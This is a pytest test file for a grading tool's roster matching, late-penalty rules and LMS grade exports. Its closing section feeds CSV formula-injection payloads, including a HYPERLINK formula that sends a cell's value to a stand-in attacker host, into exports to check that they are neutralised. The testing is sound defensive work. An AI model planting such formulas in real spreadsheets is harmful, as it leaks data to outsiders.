"""Roster loading and matching, late policy, and LMS exports checked against the LMS import rules.

Exports are read back with the independent importers in lms_import_rules.py, which apply the
rules Canvas, Moodle and Blackboard apply on upload.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from types import SimpleNamespace

import pytest
from pydantic import ValidationError

from gradelab.config import LatePolicy, LmsSettings
from gradelab.publish.csvfiles import spreadsheet_text
from gradelab.publish.exports import export, load_results
from gradelab.publish.late import apply_late, assess
from gradelab.boundary.records import LateInfo, QuestionScore, SubmissionResult
from gradelab.boundary.records import TestOutcome as Outcome  # a Test* name would be collected by pytest
from gradelab.publish.review import read_review_sheet, write_review_sheet
from gradelab.publish.roster import RosterEntry, load_roster, match

from lms_import_rules import blackboard_import, canvas_import, moodle_import, parse_canvas

DUE = datetime(2025, 3, 10, 23, 59, tzinfo=UTC)
POLICY = LatePolicy(due=DUE, grace_minutes=15, penalty="per_day", per_day_fraction=0.1, max_days=3)
QUESTION_IDS = ["q1_sigmoid", "q2_relu", "q3_violin"]
SETTINGS = LmsSettings(assignment_title="HW3 Vanishing Gradients", canvas_assignment_id=4321)

ASE = 'Ødegård, Åse "Ace"'
ANH = "Nguyễn Văn Anh"
SEAN = "O'Brien, Seán"
ZOE = "Kowalski, Zoë\nJr."  # a newline inside a quoted CSV field


def make_result(student_id: str, source: str, scores: list[float], late: LateInfo | None = None) -> SubmissionResult:
    """A graded submission: two 5-point tests per 10-point question."""
    tests, questions = [], []
    for question_id, score in zip(QUESTION_IDS, scores, strict=False):  # fewer scores: fewer questions
        halves = [min(score, 5.0), max(score - 5.0, 0.0)]
        tests += [
            Outcome(
                name=f"test_{question_id}_{part}",
                question=question_id,
                score=half,
                max_score=5.0,
                status="passed" if half == 5.0 else "failed",
            )
            for part, half in zip("ab", halves, strict=True)
        ]
        questions.append(
            QuestionScore(
                id=question_id,
                title=question_id,
                kind="auto",
                score=score,
                max_score=10.0,
                passed=sum(h == 5.0 for h in halves),
                total=2,
            )
        )
    return SubmissionResult(
        student_id=student_id,
        source=source,
        content_hash=f"sha256:{student_id}",
        status="graded",
        score=sum(scores),
        max_score=10.0 * len(scores),
        tests=tests,
        questions=questions,
        late=late,
    )


def student(number: int, name: str, sortable_name: str | None, login: str, section: str, email: str) -> RosterEntry:
    """A roster student whose ids derive from `number`: Canvas 100n, SIS S-100n, ID number 202500n."""
    return RosterEntry(
        name=name,
        sortable_name=sortable_name,
        canvas_id=f"100{number}",
        sis_user_id=f"S-100{number}",
        sis_login_id=login,
        section=section,
        email=email,
        id_number=f"202500{number}",
    )


def roster() -> list[RosterEntry]:
    return [
        student(1, 'Åse "Ace" Ødegård', ASE, "aodegard", "Sec A", "Ase.Odegard@uni.example"),
        student(2, ANH, None, "anguyen", "Sec A", "anh.nguyen@uni.example"),
        student(3, "Seán O'Brien", SEAN, "sobrien", "Sec B", "sean.obrien@uni.example"),
        student(4, "Jane Doe", "Doe, Jane", "jdoe", "Sec B", "jane.doe@uni.example"),
        student(5, "Zoë\nJr. Kowalski", ZOE, "zkowalski", "Sec B", "zoe.kowalski@uni.example"),
    ]


def submissions() -> list[SubmissionResult]:
    """On time, 1 day 2 h late, `_LATE` marker only, 2 days 5 h late, and one nobody on the roster."""
    return [
        make_result(
            "1001",
            "dl/ødegårdåseace_1001_90001_hw3.ipynb",
            [10, 8, 7.5],
            LateInfo(submitted_at=DUE - timedelta(hours=1)),
        ),
        make_result(
            "1002",
            "dl/nguyễnvănanh_LATE_1002_90002_hw3.ipynb",
            [9, 9, 6],
            LateInfo(submitted_at=DUE + timedelta(days=1, hours=2), marked_late=True),
        ),
        make_result("1003", "dl/obriensean_LATE_1003_90003_hw3.ipynb", [10, 10, 10], LateInfo(marked_late=True)),
        make_result(
            "1005",
            "dl/kowalskizoejr_LATE_1005_90005_hw3.ipynb",
            [5, 5, 5],
            LateInfo(submitted_at=DUE + timedelta(days=2, hours=5), marked_late=True),
        ),
        make_result("9999", "dl/strangerstan_9999_90099_hw3.ipynb", [1, 2, 3]),
    ]


# Out of 30 under POLICY: 25.5 on time; 24 - 2 started days x 10% = 18; 30 - 1 day (LMS marker) = 27;
# 15 - 3 started days x 10% = 6.
FINAL_SCORES = {"1001": 25.5, "1002": 18.0, "1003": 27.0, "1005": 6.0}


@pytest.fixture
def graded_dir(tmp_path: Path) -> Path:
    """A grading output folder in `gradelab grade --out` layout."""
    out = tmp_path / "graded"
    for result in submissions():
        folder = out / result.student_id
        folder.mkdir(parents=True)
        (folder / "submission.json").write_text(result.model_dump_json(), encoding="utf-8")
        (folder / "results.json").write_text(json.dumps(result.to_gradescope()), encoding="utf-8")
    return out


def read(path: Path) -> str:
    """A written file's text, exactly: strict UTF-8 and line endings untouched."""
    return path.read_bytes().decode("utf-8")


def run_export(graded_dir: Path, target: str, out: Path, **options) -> tuple:
    options.setdefault("settings", SETTINGS)
    options.setdefault("roster", roster())
    options.setdefault("late_policy", POLICY)
    report = export(load_results(graded_dir), target=target, out=out, question_ids=QUESTION_IDS, **options)
    return report, out


# ---------------------------------------------------------------- loading results


def test_load_results_reads_every_student_folder(graded_dir: Path) -> None:
    loaded = load_results(graded_dir)
    assert loaded == sorted(submissions(), key=lambda r: r.student_id)


def test_load_results_refuses_a_folder_without_submissions(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError, match=r"submission\.json"):
        load_results(tmp_path)


# ---------------------------------------------------------------- Canvas


def test_canvas_export_places_final_scores_and_leaves_non_submitters_blank(graded_dir: Path, tmp_path: Path) -> None:
    report, out = run_export(graded_dir, "canvas", tmp_path / "canvas.csv")

    text = read(out)
    assert text.splitlines()[:2] == [
        "Student,ID,SIS User ID,SIS Login ID,Section,HW3 Vanishing Gradients (4321)",
        "Points Possible,,,,,30",
    ]
    assert canvas_import(text) == {**FINAL_SCORES, "1004": None}
    parsed = parse_canvas(text)
    assert (parsed.assignments[0].title, parsed.assignments[0].assignment_id) == ("HW3 Vanishing Gradients", 4321)
    assert parsed.assignments[0].points_possible == 30.0
    assert ",S-1004,jdoe,Sec B,\r\n" in text  # blank, not 0: Canvas leaves the grade alone
    assert report.rows == 5
    assert [r.student_id for r in report.unmatched_submissions] == ["9999"]
    assert [s.name for s in report.missing_students] == ["Jane Doe"]
    assert report.matched_by == {"1001": "canvas_id", "1002": "canvas_id", "1003": "canvas_id", "1005": "canvas_id"}


def test_canvas_export_keeps_tricky_names_byte_for_byte(graded_dir: Path, tmp_path: Path) -> None:
    _, out = run_export(graded_dir, "canvas", tmp_path / "canvas.csv")

    students = {row.canvas_id: row.student for row in parse_canvas(read(out)).rows}
    assert students == {"1001": ASE, "1002": ANH, "1003": SEAN, "1004": "Doe, Jane", "1005": ZOE}


def test_canvas_export_without_roster_uses_file_name_ids(graded_dir: Path, tmp_path: Path) -> None:
    results = [*load_results(graded_dir), make_result("alice", "alice.ipynb", [1, 1, 1])]
    report = export(results, target="canvas", out=tmp_path / "c.csv", settings=SETTINGS, late_policy=POLICY)

    assert canvas_import(read(tmp_path / "c.csv")) == {**FINAL_SCORES, "9999": 6.0}
    assert any("Canvas user ids" in note for note in report.notes)
    assert [r.student_id for r in report.unmatched_submissions] == ["alice"]


def test_canvas_export_from_a_loaded_canvas_roster(graded_dir: Path, tmp_path: Path) -> None:
    roster_file = tmp_path / "gradebook.csv"
    roster_file.write_text(CANVAS_GRADEBOOK, encoding="utf-8")

    report, out = run_export(graded_dir, "canvas", tmp_path / "canvas.csv", roster=load_roster(roster_file))

    assert canvas_import(read(out)) == {"1001": 25.5, "1002": 18.0, "1003": 27.0}
    assert sorted(r.student_id for r in report.unmatched_submissions) == ["1005", "9999"]


def test_canvas_column_without_assignment_id_is_the_bare_title(graded_dir: Path, tmp_path: Path) -> None:
    settings = LmsSettings(assignment_title="HW3, part 2")
    _, out = run_export(graded_dir, "canvas", tmp_path / "canvas.csv", settings=settings)

    assignment = parse_canvas(read(out)).assignments[0]
    assert (assignment.header, assignment.assignment_id) == ("HW3, part 2", None)


def test_canvas_title_that_canvas_would_read_as_an_id_is_refused(graded_dir: Path, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="canvas_assignment_id"):
        run_export(graded_dir, "canvas", tmp_path / "c.csv", settings=LmsSettings(assignment_title="HW (3)"))


def test_export_without_policy_uses_the_stored_penalty(tmp_path: Path) -> None:
    stored = make_result("1001", "x.ipynb", [10, 10, 10], LateInfo(penalty_points=4.5, reason="stored"))
    export([stored], target="canvas", out=tmp_path / "c.csv", settings=SETTINGS, roster=roster())

    assert canvas_import(read(tmp_path / "c.csv"))["1001"] == 25.5


# ---------------------------------------------------------------- Moodle


def test_moodle_export_by_email_is_accepted_with_feedback(graded_dir: Path, tmp_path: Path) -> None:
    report, out = run_export(graded_dir, "moodle", tmp_path / "moodle.csv")

    emails = {entry.email for entry in roster() if entry.email}
    grades = moodle_import(
        read(out),
        "Email address",
        "useremail",
        emails,
        grade_column=SETTINGS.assignment_title,
        feedback_column="Feedback comments",
    )
    emails_by_id = {entry.canvas_id: entry.email for entry in roster()}
    assert {email: grade.grade for email, grade in grades.items()} == {
        emails_by_id[student_id]: score for student_id, score in FINAL_SCORES.items()
    }
    assert (
        grades["Ase.Odegard@uni.example"].feedback == "Score 25.5/30. q1_sigmoid 10/10; q2_relu 8/10; q3_violin 7.5/10"
    )
    assert grades["anh.nguyen@uni.example"].feedback == (
        "Score 18/30, after a late penalty of 6: submitted 1 day 2 h late (2 days started after the 15 min grace);"
        " 2 days x 10%: -20% = -6 points. q1_sigmoid 9/10; q2_relu 9/10; q3_violin 6/10"
    )
    assert [r.student_id for r in report.unmatched_submissions] == ["9999"]
    assert report.errors == []


def test_moodle_export_by_id_number(graded_dir: Path, tmp_path: Path) -> None:
    settings = SETTINGS.model_copy(update={"moodle_identifier": "id_number"})
    _, out = run_export(graded_dir, "moodle", tmp_path / "moodle.csv", settings=settings)

    numbers = {entry.id_number for entry in roster() if entry.id_number}
    grades = moodle_import(read(out), "ID number", "useridnumber", numbers, grade_column=SETTINGS.assignment_title)
    assert {number: grade.grade for number, grade in grades.items()} == {
        "2025001": 25.5,
        "2025002": 18.0,
        "2025003": 27.0,
        "2025005": 6.0,
    }


def test_moodle_grades_above_the_maximum_are_reported_not_written(tmp_path: Path) -> None:
    big = make_result("1001", "x.ipynb", [60, 60])
    big.max_score = 150.0
    report = export([big], target="moodle", out=tmp_path / "m.csv", settings=SETTINGS, roster=roster())

    assert "Ase.Odegard@uni.example: 120 is above 100" in report.errors[0]
    assert report.rows == 0

    settings = SETTINGS.model_copy(update={"points_possible": 150.0})
    export([big], target="moodle", out=tmp_path / "m.csv", settings=settings, roster=roster())
    grades = moodle_import(
        read(tmp_path / "m.csv"),
        "Email address",
        "useremail",
        {"Ase.Odegard@uni.example"},
        grade_column=SETTINGS.assignment_title,
        max_grade=150,
    )
    assert grades["Ase.Odegard@uni.example"].grade == 120.0


def test_moodle_export_needs_a_roster(graded_dir: Path, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="needs a roster"):
        export(load_results(graded_dir), target="moodle", out=tmp_path / "m.csv", settings=SETTINGS)


# ---------------------------------------------------------------- Blackboard


def test_blackboard_export_is_an_all_quoted_grade_center_file(graded_dir: Path, tmp_path: Path) -> None:
    settings = SETTINGS.model_copy(update={"blackboard_column": "HW3 [Total Pts: 30 Score] |664617"})
    report, out = run_export(graded_dir, "blackboard", tmp_path / "bb.csv", settings=settings)

    parsed = blackboard_import(read(out))
    column = parsed.columns[0]
    assert (column.name, column.column_id, column.points) == ("HW3", 664617, 30.0)
    usernames = {entry.canvas_id: entry.sis_login_id for entry in roster()}
    assert {name: row.scores[0] for name, row in parsed.rows.items()} == {
        usernames[student_id]: score for student_id, score in FINAL_SCORES.items()
    }
    assert (parsed.rows["aodegard"].last_name, parsed.rows["aodegard"].first_name) == ("Ødegård", 'Åse "Ace"')
    assert (parsed.rows["zkowalski"].last_name, parsed.rows["zkowalski"].first_name) == ("Kowalski", "Zoë\nJr.")
    assert parsed.rows["sobrien"].student_id == "S-1003"
    assert not any("new text column" in note for note in report.notes)


def test_blackboard_export_without_column_id_creates_a_new_column(graded_dir: Path, tmp_path: Path) -> None:
    report, out = run_export(graded_dir, "blackboard", tmp_path / "bb.csv")

    column = blackboard_import(read(out)).columns[0]
    assert (column.name, column.column_id) == (SETTINGS.assignment_title, None)
    assert any("new text column" in note for note in report.notes)


# ---------------------------------------------------------------- Gradescope and plain CSV


def test_gradescope_export_writes_one_results_json_per_student(graded_dir: Path, tmp_path: Path) -> None:
    report, out = run_export(graded_dir, "gradescope", tmp_path / "gs")

    written = {path.parent.name: json.loads(path.read_text(encoding="utf-8")) for path in out.glob("*/results.json")}
    assert written == {result.student_id: result.to_gradescope() for result in submissions()}
    assert report.rows == 5
    assert any("raw autograder score" in note for note in report.notes)


def test_plain_csv_shows_raw_score_penalty_and_final_score(graded_dir: Path, tmp_path: Path) -> None:
    report, out = run_export(graded_dir, "csv", tmp_path / "grades.csv")

    text = read(out)
    assert text.startswith("\ufeff")  # so that Excel reads the names as UTF-8
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert list(rows[0]) == [
        "student_id",
        "name",
        "email",
        *QUESTION_IDS,
        "raw_score",
        "late_penalty",
        "score",
        "max_score",
        "status",
    ]
    by_id = {row["student_id"]: row for row in rows}
    assert {k: by_id["1002"][k] for k in ("name", "q3_violin", "raw_score", "late_penalty", "score", "max_score")} == {
        "name": ANH,
        "q3_violin": "6",
        "raw_score": "24",
        "late_penalty": "6",
        "score": "18",
        "max_score": "30",
    }
    assert (by_id["1001"]["name"], by_id["1001"]["late_penalty"], by_id["1001"]["score"]) == (
        'Åse "Ace" Ødegård',
        "0",
        "25.5",
    )
    assert (by_id["1004"]["status"], by_id["1004"]["score"]) == ("missing", "")
    assert (by_id["9999"]["name"], by_id["9999"]["score"]) == ("", "6")  # unmatched, still listed
    assert by_id["1005"]["name"] == "Zoë\nJr. Kowalski"
    assert report.rows == 6


# ---------------------------------------------------------------- roster loading

CANVAS_GRADEBOOK = (
    "\ufeffStudent;ID;SIS User ID;SIS Login ID;Section;HW2 (111);Current Score\r\n"
    "    Points Possible;;;;;10;(read only)\r\n"
    '"Ødegård, Åse ""Ace""";1001;S-1001;aodegard;Sec A;9,5;95\r\n'
    "Nguyễn Văn Anh;1002;S-1002;anguyen;Sec A;8;80\r\n"
    '"O\'Brien, Seán";1003;S-1003;sobrien;Sec B;;\r\n'
    ";;;;;;\r\n"
    '"Student, Test";9000;;;Sec A;;\r\n'
)


def test_load_roster_reads_a_semicolon_canvas_export(tmp_path: Path) -> None:
    path = tmp_path / "gradebook.csv"
    path.write_text(CANVAS_GRADEBOOK, encoding="utf-8")

    entries = load_roster(path)

    assert [(e.sortable_name, e.name, e.canvas_id, e.sis_user_id, e.sis_login_id, e.section) for e in entries] == [
        (ASE, 'Åse "Ace" Ødegård', "1001", "S-1001", "aodegard", "Sec A"),
        (ANH, ANH, "1002", "S-1002", "anguyen", "Sec A"),
        (SEAN, "Seán O'Brien", "1003", "S-1003", "sobrien", "Sec B"),
    ]


def test_load_roster_reads_a_moodle_participants_export(tmp_path: Path) -> None:
    path = tmp_path / "participants.csv"
    path.write_text(
        "First name,Last name,ID number,Email address,Roles,Groups\n"
        'Åse "Ace",Ødegård,2025001,Ase.Odegard@uni.example,Student,G1\n'
        "Seán,O'Brien,,sean.obrien@uni.example,Student,\n",
        encoding="utf-8",
    )

    entries = load_roster(path)

    assert [(e.name, e.sortable_name, e.id_number, e.email) for e in entries] == [
        ('Åse "Ace" Ødegård', ASE, "2025001", "Ase.Odegard@uni.example"),
        ("Seán O'Brien", SEAN, None, "sean.obrien@uni.example"),
    ]


def test_load_roster_reads_a_moodle_worksheet_with_participant_ids(tmp_path: Path) -> None:
    path = tmp_path / "worksheet.csv"
    path.write_text(
        "\ufeffIdentifier,Full name,Email address,Status,Grade\n"
        "Participant 71002,Nguyễn Văn Anh,anh.nguyen@uni.example,Submitted,\n",
        encoding="utf-8",
    )

    (entry,) = load_roster(path)

    assert (entry.name, entry.moodle_id, entry.email) == (ANH, "71002", "anh.nguyen@uni.example")


def test_load_roster_reads_a_plain_csv(tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    path.write_text('student_id,name,email\ns1,"O\'Brien, Seán",sean.obrien@uni.example\ns2,,\n', encoding="utf-8")

    entries = load_roster(path)

    assert [(e.id_number, e.name, e.sortable_name, e.email) for e in entries] == [
        ("s1", "O'Brien, Seán", None, "sean.obrien@uni.example"),
        ("s2", "", None, None),
    ]


def test_load_roster_names_the_columns_of_an_unknown_format(tmp_path: Path) -> None:
    path = tmp_path / "mystery.csv"
    path.write_text("Matrikel,Vorname\n1,Anna\n", encoding="utf-8")

    with pytest.raises(ValueError, match="columns found: Matrikel, Vorname"):
        load_roster(path)


# ---------------------------------------------------------------- matching

MATCH_ROSTER = [
    RosterEntry(name='Åse "Ace" Ødegård', sortable_name=ASE, canvas_id="1001"),
    RosterEntry(name="Jane Doe", sis_user_id="S-2002"),
    RosterEntry(name="Ken Ito", moodle_id="71003"),
    RosterEntry(name="Zoë Kowalski", email="Zoe.Kowalski@uni.example"),
    RosterEntry(name="Li Wei", id_number="2025005"),
    RosterEntry(name=ANH),
    RosterEntry(name="Seán O'Brien", sortable_name=SEAN),
]


@pytest.mark.parametrize(
    ("student_id", "source", "expected_name", "rule"),
    [
        ("1001", "x.ipynb", 'Åse "Ace" Ødegård', "canvas_id"),
        ("S-2002", "x.ipynb", "Jane Doe", "sis_user_id"),
        ("71003", "x.ipynb", "Ken Ito", "moodle_id"),
        ("ZOE.KOWALSKI@uni.EXAMPLE", "x.ipynb", "Zoë Kowalski", "email"),
        ("2025005", "x.ipynb", "Li Wei", "id_number"),
        ("nguyen  van ANH", "x.ipynb", ANH, "name"),  # accents, case and spacing folded
        ("OBrien, Sean", "x.ipynb", "Seán O'Brien", "name"),  # "Last, First" against "First Last"
        ("ODEGARD, Ase Ace", "x.ipynb", 'Åse "Ace" Ødegård', "name"),  # ø has no decomposition
        ("5555", "dl/ødegårdåseace_LATE_5555_90001_hw3.ipynb", 'Åse "Ace" Ødegård', "name"),  # Canvas lastfirst
        ("4242", "dl/Nguyen Van Anh_4242_assignsubmission_file_/hw3.ipynb", ANH, "name"),  # Moodle folder
    ],
)
def test_match_rule(student_id: str, source: str, expected_name: str, rule: str) -> None:
    result = make_result(student_id, source, [1])

    matching = match([result], MATCH_ROSTER)

    assert [(entry.name, paired.student_id) for entry, paired in matching.pairs] == [(expected_name, student_id)]
    assert matching.matched_by == {student_id: rule}


def test_match_prefers_the_more_specific_rule() -> None:
    by_id_number = RosterEntry(name="A", id_number="1001")
    by_canvas_id = RosterEntry(name="B", canvas_id="1001")

    matching = match([make_result("1001", "x.ipynb", [1])], [by_id_number, by_canvas_id])

    assert [(entry.name, matching.matched_by["1001"]) for entry, _ in matching.pairs] == [("B", "canvas_id")]


def test_match_leaves_ambiguous_names_and_second_submissions_unmatched() -> None:
    twins = [RosterEntry(name="Jane Doe", canvas_id="1"), RosterEntry(name="Doe, Jane", canvas_id="2")]
    results = [
        make_result("Jane Doe", "x.ipynb", [1]),
        make_result("1", "y.ipynb", [1]),
        make_result("jane doe", "dl/doejane_1_77_hw.ipynb", [1]),
    ]

    matching = match(results, twins)

    assert [(entry.canvas_id, result.student_id) for entry, result in matching.pairs] == [("1", "1")]
    assert [result.student_id for result in matching.unmatched_submissions] == ["Jane Doe", "jane doe"]
    assert "ambiguous" in matching.why_unmatched["Jane Doe"]
    assert [entry.canvas_id for entry in matching.missing_students] == ["2"]


def test_match_reports_two_submissions_for_one_student() -> None:
    results = [make_result("1001", "a.ipynb", [1]), make_result("odegard, ase ace", "b.ipynb", [1])]

    matching = match(results, MATCH_ROSTER)

    assert [result.student_id for _, result in matching.pairs] == ["1001"]
    assert "already paired with submission 1001" in matching.why_unmatched["odegard, ase ace"]


def test_match_drops_nothing() -> None:
    results = submissions()
    matching = match(results, roster())

    assert len(matching.pairs) + len(matching.unmatched_submissions) == len(results)
    assert len(matching.pairs) + len(matching.missing_students) == len(roster())


# ---------------------------------------------------------------- late policy


@pytest.mark.parametrize(
    ("policy_changes", "submitted_at", "marked_late", "fraction", "reason_part"),
    [
        ({}, DUE - timedelta(hours=1), False, 0.0, "on time"),
        (
            {},
            DUE + timedelta(minutes=10),
            True,
            0.0,
            "inside the 15 min grace: no penalty (the LMS marked it late; the timestamp wins)",
        ),
        ({}, DUE + timedelta(hours=23), False, 0.1, "submitted 23 h late (1 day started after the 15 min grace)"),
        ({}, DUE + timedelta(days=1, minutes=15), False, 0.1, "1 day x 10%: -10% = -3 points"),
        ({}, DUE + timedelta(days=2, hours=5), False, 0.3, "3 days x 10%: -30% = -9 points"),
        ({}, DUE + timedelta(days=3, hours=1), False, 1.0, "more than 3 days late, score set to 0"),
        ({"penalty": "zero"}, DUE + timedelta(minutes=20), False, 1.0, "late policy 'zero': -100% = -30 points"),
        ({"penalty": "none"}, DUE + timedelta(days=2), False, 0.0, "submitted 2 days late"),
        ({"extensions": {"s1": DUE + timedelta(days=3)}}, DUE + timedelta(days=2), False, 0.0, "extended due date"),
        ({"extensions": {"s1": 1.5}}, DUE + timedelta(days=2), False, 0.1, "extension of 1.5 days"),
        ({}, None, True, 0.1, "marked late by the LMS without a timestamp"),
        ({"penalty": "zero"}, None, True, 1.0, "marked late by the LMS"),
        ({}, None, False, 0.0, "on time"),
        ({}, datetime(2025, 3, 11, 1, 30, tzinfo=timezone(timedelta(hours=2))), False, 0.0, "on time"),
    ],
)
def test_assess(
    policy_changes: dict, submitted_at: datetime | None, marked_late: bool, fraction: float, reason_part: str
) -> None:
    policy = LatePolicy.model_validate({**POLICY.model_dump(), **policy_changes})

    info = assess(policy, student_id="s1", submitted_at=submitted_at, marked_late=marked_late, max_score=30)

    assert info.penalty_fraction == pytest.approx(fraction)
    assert info.penalty_points == pytest.approx(30 * fraction)
    assert reason_part in info.reason
    assert info.marked_late is marked_late


def test_assess_treats_naive_times_as_utc_and_says_so() -> None:
    naive = assess(POLICY, student_id="s1", submitted_at=datetime(2025, 3, 11, 22, 59), marked_late=False, max_score=30)
    aware = assess(POLICY, student_id="s1", submitted_at=DUE + timedelta(hours=23), marked_late=False, max_score=30)

    assert (naive.seconds_late, naive.penalty_points) == (aware.seconds_late, aware.penalty_points) == (23 * 3600, 3.0)
    assert naive.submitted_at == DUE + timedelta(hours=23)
    assert "taken as UTC" in naive.reason
    assert "taken as UTC" not in aware.reason


def test_apply_late_subtracts_the_penalty_but_never_goes_below_zero() -> None:
    result = make_result("s1", "x.ipynb", [2])

    assert apply_late(result, LateInfo(penalty_points=0.5)) == 1.5
    assert apply_late(result, LateInfo(penalty_points=9.0)) == 0.0
    assert apply_late(result, None) == 2.0


@pytest.mark.parametrize(
    ("bad", "field"),
    [
        ({"grace_minutes": -5}, "grace_minutes"),
        ({"penalty": "half"}, "penalty"),
        ({"per_day_fraction": 1.5}, "per_day_fraction"),
        ({"extensions": {"s1": -2}}, "extensions.s1"),
        ({"grace": 5}, "grace"),
    ],
)
def test_late_policy_errors_name_the_field(bad: dict, field: str) -> None:
    with pytest.raises(ValidationError) as error:
        LatePolicy(**bad)
    assert error.value.errors()[0]["loc"][: len(field.split("."))] == tuple(field.split("."))


# ---------------------------------------------------------------- the importers refuse what the LMS refuses


def test_canvas_importer_rejects_a_header_without_section() -> None:
    with pytest.raises(ValueError, match="Invalid header row"):
        canvas_import("Student,ID,SIS User ID,SIS Login ID,HW3 (1)\nDoe,1,,,5\n")


def test_canvas_importer_reads_semicolons_decimal_commas_and_excused() -> None:
    text = 'Student;ID;Section;HW3 (12)\r\n"Doe, Jane";1;A;7,5\r\nRoe;2;A;EX\r\nPoe;3;A;-\r\n'
    assert canvas_import(text) == {"1": 7.5, "2": "EX", "3": None}


def test_moodle_importer_rejects_unknown_users_and_grades_above_100() -> None:
    text = "Email address,HW3\nalice@uni.example,50\n"
    with pytest.raises(ValueError, match="user mapping error"):
        moodle_import(text, "Email address", "useremail", {"Alice@uni.example"}, grade_column="HW3")
    with pytest.raises(ValueError, match="above 100"):
        moodle_import("Email address,HW3\na@x,100.5\n", "Email address", "useremail", {"a@x"}, grade_column="HW3")


def test_blackboard_importer_rejects_unquoted_values_and_missing_usernames() -> None:
    with pytest.raises(ValueError, match="double quotes"):
        blackboard_import('"Last Name","First Name","Username","HW3"\r\n"Doe","Jane",jdoe,"5"\r\n')
    with pytest.raises(ValueError, match="without a username"):
        blackboard_import('"Last Name","First Name","Username","HW3"\r\n"Doe","Jane","","5"\r\n')


# ---------------------------------------------------------------- formula injection


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+SUM(1,2)", "@cmd", "-2+3", "\tTab", "\rCR"]


def csv_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def hostile_roster() -> list[RosterEntry]:
    """Roster names and ids that a spreadsheet would run, beside a harmless student."""
    entries = [
        RosterEntry(name=formula, sortable_name=formula, canvas_id=f"100{n}", sis_user_id=f"-S{n}",
                    sis_login_id=f"user{n}", section="@Sec", email=f"s{n}@uni.example", id_number=f"=ID{n}")
        for n, formula in enumerate(FORMULAS, start=1)
    ]
    return [*entries, student(9, "Jane Doe", "Doe, Jane", "jdoe", "Sec B", "jane.doe@uni.example")]


def hostile_results() -> list[SubmissionResult]:
    return [make_result(f"100{n}", f"s{n}.ipynb", [10, 5]) for n in range(1, len(FORMULAS) + 1)] + [
        make_result("1009", "jane.ipynb", [10, 10]), make_result("-cmd", "-cmd.ipynb", [1, 2]),
    ]


@pytest.mark.parametrize("cell, written", [
    *[(formula, "'" + formula) for formula in FORMULAS],
    ("-7", "-7"), ("-0.5", "-0.5"), ("12.25", "12.25"),  # numbers stay numbers
    ("-", "'-"), ("-cmd", "'-cmd"), ("-1-1", "'-1-1"),  # text with a leading "-"
    ("", ""), ("Ødegård, Åse", "Ødegård, Åse"), ("a=b", "a=b"), ("'quoted", "'quoted"),
])
def test_spreadsheet_text_neutralises_formula_prefixes_only(cell: str, written: str) -> None:
    assert spreadsheet_text(cell) == written


def test_canvas_export_neutralises_text_cells_and_still_imports(tmp_path: Path) -> None:
    out = tmp_path / "canvas.csv"
    report = export(hostile_results(), target="canvas", out=out, settings=SETTINGS, roster=hostile_roster())

    rows = {row[1]: row for row in csv_cells(out)[2:]}
    for n, formula in enumerate(FORMULAS, start=1):
        assert rows[f"100{n}"][:5] == ["'" + formula, f"100{n}", f"'-S{n}", f"user{n}", "'@Sec"]
        assert rows[f"100{n}"][5] == "15"  # a score is a number, not text
    assert canvas_import(read(out)) == {f"100{n}": 15.0 for n in range(1, 7)} | {"1009": 20.0}
    assert [r.student_id for r in report.unmatched_submissions] == ["-cmd"]


def test_moodle_export_leaves_out_a_row_whose_identifier_a_spreadsheet_would_run(tmp_path: Path) -> None:
    settings = SETTINGS.model_copy(update={"moodle_identifier": "id_number"})
    out = tmp_path / "moodle.csv"
    report = export(hostile_results(), target="moodle", out=out, settings=settings, roster=hostile_roster())

    # Quoted with an apostrophe, the ID number would match nobody and Moodle would abort the whole import.
    assert len(report.errors) == len(FORMULAS) and all("enter this grade by hand" in e for e in report.errors)
    grades = moodle_import(read(out), "ID number", "useridnumber", {"2025009"}, grade_column=SETTINGS.assignment_title)
    assert {number: grade.grade for number, grade in grades.items()} == {"2025009": 20.0}


def test_plain_and_blackboard_exports_neutralise_names_and_ids(tmp_path: Path) -> None:
    plain, board = tmp_path / "grades.csv", tmp_path / "bb.csv"
    export(hostile_results(), target="csv", out=plain, settings=SETTINGS, roster=hostile_roster(),
           question_ids=QUESTION_IDS[:2])
    export(hostile_results(), target="blackboard", out=board, settings=SETTINGS, roster=hostile_roster())

    names = {row[0]: row[1] for row in csv_cells(plain)[1:]}
    assert names == {f"100{n}": "'" + formula for n, formula in enumerate(FORMULAS, start=1)} | {
        "1009": "Jane Doe", "'-cmd": ""}
    assert csv_cells(plain)[-1][3:9] == ["1", "2", "3", "0", "3", "20"]  # numbers as they were
    parsed = blackboard_import(read(board))
    assert parsed.rows["user1"].student_id == "'-S1" and parsed.rows["jdoe"].scores == [20.0]


def test_review_sheet_is_neutralised_and_reads_back_as_written(tmp_path: Path) -> None:
    question = SimpleNamespace(id="q2_1", title="Why", kind="manual", points=0.0, manual_points=2.0, rubric="")
    results = [make_result("-cmd", "-cmd.ipynb", [1]), make_result("1001", "a.ipynb", [1])]
    [_, sheet] = write_review_sheet(results, [question], answers={}, out_dir=tmp_path)
    rows = csv_cells(sheet)
    assert [row[0] for row in rows[1:]] == ["'-cmd", "1001"]
    rows[1][3:5] = ["1.5", '=HYPERLINK("http://evil.example")']  # the instructor fills in the sheet
    with sheet.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(rows)

    [score] = read_review_sheet(sheet)
    assert (score.student_id, score.points, score.comment) == ("-cmd", 1.5, '=HYPERLINK("http://evil.example")')
    write_review_sheet(results, [question], answers={}, out_dir=tmp_path)  # rewritten: entries kept, neutralised
    assert csv_cells(sheet)[1] == ["'-cmd", "q2_1", "2", "1.5", "'=HYPERLINK(\"http://evil.example\")"]
